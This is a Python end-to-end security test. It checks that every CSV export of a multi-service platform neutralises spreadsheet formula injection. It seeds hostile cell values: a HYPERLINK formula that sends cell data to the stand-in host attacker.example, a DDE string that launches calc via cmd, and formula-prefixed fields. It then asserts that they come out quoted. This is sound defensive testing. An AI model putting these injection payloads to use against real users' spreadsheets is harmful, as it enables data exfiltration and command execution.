"""CSV formula injection: no cell of any CSV export of any service starts a formula.

The exports are found in the route table (every route whose path ends in `.csv`), so a new export
is checked without anyone remembering to; one the test cannot fill in fails it. Hostile text is
seeded first where a member's words reach an export: the rows of a roster import that are
rejected (kept and offered back as `rejected.csv`), a directive's title, and a refused request's
target in the audit trail. A spreadsheet runs a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return; every such cell must come out quoted (`'=…`, nazar_platform.http.csv_files).
"""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from urllib.parse import quote

import httpx

from tests.e2e.clients import World, call
from tests.e2e.system import System
from tests.security.routes import route_table

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"खोलें")'
HEADER = ["volunteer_id", "name_hi", "name_latin", "role", "police_station", "whatsapp", "ward"]
# Outside the SP's district (Bikaner), so every row is rejected and kept for rejected.csv.
ROWS = [
    ["@V-SEC-1", HOSTILE, "+Kamla", "police_mitra", "PS-KISHANGARH-BAS-KOTWALI", "+91 555", "=1+1"],
    ["-V-SEC-2", "\t=cmd|' /C calc'!A0", "Geeta", "police_mitra", "PS-KISHANGARH-BAS-KOTWALI",
     "-917000998002", "@SUM(A1)"],
]  # fmt: skip


async def _rejected_import(world: World) -> str:
    sp = await world.token(await world.officer("sp", "DST-BIKANER"))
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *ROWS])
    r = await world.system.http.post(
        world.roster("/imports"),
        params={"kind": "volunteers", "filename": "ward.csv"},
        content=out.getvalue().encode(),
        headers={
            "Authorization": f"Bearer {sp}",
            "Content-Type": "text/csv",
            "Idempotency-Key": str(uuid.uuid4()),
        },
    )
    assert r.status_code == 202, r.text
    import_id = str(r.json()["import_id"])
    for _ in range(120):
        report = await call(world.system, "GET", world.roster(f"/imports/{import_id}"), token=sp)
        if report.json()["status"] not in ("received", "running"):
            break
        await asyncio.sleep(0.5)
    assert report.json()["counts"].get("rejected") == len(ROWS), report.text
    return import_id


async def _seeded_directive(world: World, adg: str) -> str:
    r = await call(
        world.system, "POST", world.directive("/directives"), token=adg,
        json={"title": {"hi": HOSTILE}, "body": {"hi": "@SUM(1+1) सूचना"},
              "audience": {"unit_ids": ["CIR-BHIWADI"]}},
    )  # fmt: skip
    if r.status_code == 201:
        return str(r.json()["id"])
    listed = await call(world.system, "GET", world.directive("/directives?limit=1"), token=adg)
    assert listed.json()["items"], f"no directive to export: {r.text}"
    return str(listed.json()["items"][0]["id"])


async def test_no_cell_of_any_csv_export_starts_a_formula(system: System) -> None:
    world = World(system)
    adg = await world.token(await world.officer("adg", "BR-CRIME"))
    sp = await world.token(await world.officer("sp", "DST-BIKANER"))
    import_id = await _rejected_import(world)
    directive_id = await _seeded_directive(world, adg)
    # A refused request whose target text lands in the audit trail of every service.
    for service in ("roster", "directive", "social-publisher", "story-intake"):
        await system.http.get(
            system.url(service, f"/api/v1/units/{quote(HOSTILE, safe='')}/counts"),
            headers={"Authorization": f"Bearer {sp}"},
        )
    fillers = {"import_id": import_id, "directive_id": directive_id}
    tokens = {"rejected.csv": sp}
    exports = [row for row in route_table() if row.method == "GET" and row.path.endswith(".csv")]
    wrong, cells, quoted = [], 0, 0
    async with httpx.AsyncClient(timeout=60) as http:
        for row in exports:
            missing = set(row.parameters) - set(fillers)
            assert not missing, f"{row}: the test cannot fill {missing}; add a seeded value"
            path = row.path
            for name in row.parameters:
                path = path.replace("{" + name + "}", fillers[name])
            token = tokens.get(path.rsplit("/", 1)[-1], adg)
            r = await http.get(
                system.url(row.service, path), headers={"Authorization": f"Bearer {token}"}
            )
            assert r.status_code == 200, f"{row}: {r.status_code} {r.text[:200]}"
            assert r.headers["content-type"].startswith("text/csv"), row
            for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")):
                for cell in line:
                    cells += 1
                    quoted += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
                    if cell.startswith(FORMULA_START):
                        wrong.append(f"{row}: {cell[:60]!r}")
    print(f"\nCSV exports: {len(exports)} routes, {cells} cells, {quoted} neutralised, "
          f"{len(wrong)} formulas")  # fmt: skip
    assert not wrong, "\n".join(wrong)
    assert quoted >= 2 * len(ROWS), "the seeded formulas did not reach any export"
